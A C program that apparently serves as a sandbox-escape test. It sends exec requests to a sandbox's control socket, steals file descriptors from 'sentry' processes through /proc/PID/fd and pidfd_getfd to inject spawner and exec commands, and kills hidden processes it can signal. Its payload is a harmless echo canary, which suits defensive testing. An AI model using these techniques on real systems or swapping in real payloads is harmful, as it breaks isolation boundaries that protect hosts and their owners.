/* An attempt on the sandbox's control socket and its spawner, run as the
 * sandbox's own command (and natively, beside a sandbox, to show it
 * works). Whatever it reaches is asked to run
 *     sh -c 'echo REACHED-BY-...'
 * with this process's stdout, a host file: the canary is that line.
 *
 * usage: control_escape CONTROL_PATH [SENTRY_PID]
 *  1. connects to CONTROL_PATH (seqpacket and stream) and sends an exec
 *     request;
 *  2. looks for the spawner: processes named "sentry" in /proc and every
 *     pid near its own, which it signals with 0, and whose fds it tries
 *     to take (/proc/PID/fd/N, pidfd_getfd); into each socket it gets it
 *     sends a spawner's request and an exec request; a process it may
 *     signal but /proc does not show (a hidden one) it kills.
 * Run natively, it must be given SENTRY_PID, the sandbox's sentry: only
 * that sentry and its children are then touched, never the other
 * sentries of the machine (inside, /proc shows the sandbox's alone). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

static void send_request(int fd, const char *words, size_t len)
{
	union {
		char buf[CMSG_SPACE(3 * sizeof(int))];
		struct cmsghdr align;
	} cmsg;
	memset(&cmsg, 0, sizeof(cmsg));
	int fds[3] = { 0, 1, 2 };
	struct iovec iov = { (void *)words, len };
	struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = cmsg.buf, .msg_controllen = sizeof(cmsg.buf) };
	struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(fds));
	memcpy(CMSG_DATA(c), fds, sizeof(fds));
	sendmsg(fd, &msg, MSG_DONTWAIT | MSG_NOSIGNAL);
}

#define EXEC_REQUEST(route) "exec\0arg=sh\0arg=-c\0arg=echo REACHED-BY-" route
#define SPAWNER_REQUEST(route) "c\0ePATH=/usr/bin:/bin\0ash\0a-c\0aecho REACHED-BY-" route

static void try_control(const char *path)
{
	int types[] = { SOCK_SEQPACKET, SOCK_STREAM };
	for (int i = 0; i < 2; i++) {
		struct sockaddr_un addr = { .sun_family = AF_UNIX };
		snprintf(addr.sun_path, sizeof(addr.sun_path), "%s", path);
		int fd = socket(AF_UNIX, types[i], 0);
		if (fd < 0 || connect(fd, (struct sockaddr *)&addr, sizeof(addr)) < 0) {
			fprintf(stderr, "control socket %s (%s): %s\n", path, i ? "stream" : "seqpacket", strerror(errno));
		} else {
			fprintf(stderr, "control socket %s: connected\n", path);
			send_request(fd, EXEC_REQUEST("CONTROL"), sizeof(EXEC_REQUEST("CONTROL")));
			sleep(1); /* the request is served while the socket is open */
		}
		if (fd >= 0)
			close(fd);
	}
}

static bool comm_of(pid_t pid, char *comm, size_t size)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	FILE *f = fopen(path, "re");
	bool got = f && fgets(comm, (int)size, f);
	if (f)
		fclose(f);
	if (got)
		comm[strcspn(comm, "\n")] = 0;
	return got;
}

static void use_fd(int fd, pid_t pid, int n, const char *how)
{
	struct stat st;
	if (fstat(fd, &st) == 0 && S_ISSOCK(st.st_mode)) {
		fprintf(stderr, "pid %d fd %d: a socket (%s)\n", pid, n, how);
		send_request(fd, SPAWNER_REQUEST("SPAWNER"), sizeof(SPAWNER_REQUEST("SPAWNER")));
		send_request(fd, EXEC_REQUEST("STOLEN-FD"), sizeof(EXEC_REQUEST("STOLEN-FD")));
	}
	close(fd);
}

static pid_t victim; /* natively: the sandbox's sentry */

static pid_t parent_of(pid_t pid)
{
	char path[64], line[512];
	snprintf(path, sizeof(path), "/proc/%d/stat", pid);
	FILE *f = fopen(path, "re");
	bool got = f && fgets(line, sizeof(line), f);
	if (f)
		fclose(f);
	char *end = got ? strrchr(line, ')') : NULL;
	int ppid = 0;
	return end && sscanf(end + 1, " %*c %d", &ppid) == 1 ? ppid : 0;
}

static void try_process(pid_t pid)
{
	char comm[64];
	bool shown = comm_of(pid, comm, sizeof(comm));
	bool signalled = kill(pid, 0) == 0;
	/* a process of the sentry's (natively only the one sandbox's), or
	 * one the sandbox lets this reach without showing it */
	bool named = shown && strcmp(comm, "sentry") == 0 &&
		     (!victim || pid == victim || parent_of(pid) == victim);
	bool hidden = !victim && !shown && signalled;
	bool target = named || hidden;
	if (!target)
		return;
	fprintf(stderr, "pid %d: %s, %s\n", pid, shown ? comm : "not in /proc", signalled ? "signalled" : "not signalled");
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	for (int n = 0; n < 64; n++) {
		char path[64];
		snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, n);
		int fd = open(path, O_RDWR | O_CLOEXEC);
		if (fd >= 0)
			use_fd(fd, pid, n, "/proc/PID/fd");
		fd = pidfd < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, pidfd, n, 0);
		if (fd >= 0)
			use_fd(fd, pid, n, "pidfd_getfd");
	}
	if (pidfd >= 0)
		close(pidfd);
	if (hidden)
		kill(pid, SIGKILL); /* the spawner, if anything */
}

int main(int argc, char **argv)
{
	if (argc != 2 && argc != 3) {
		fprintf(stderr, "usage: control_escape CONTROL_PATH [SENTRY_PID]\n");
		return 2;
	}
	victim = argc == 3 ? atoi(argv[2]) : 0;
	try_control(argv[1]);
	pid_t self = getpid();
	for (pid_t pid = self > 200 ? self - 200 : 2; pid < self + 200; pid++)
		if (pid != self)
			try_process(pid);
	DIR *proc = opendir("/proc");
	for (struct dirent *e; proc && (e = readdir(proc));) {
		pid_t pid = atoi(e->d_name);
		if (pid > 0 && (pid < self - 200 || pid >= self + 200))
			try_process(pid);
	}
	if (proc)
		closedir(proc);
	sleep(1); /* anything started has time to write */
	return 0;
}
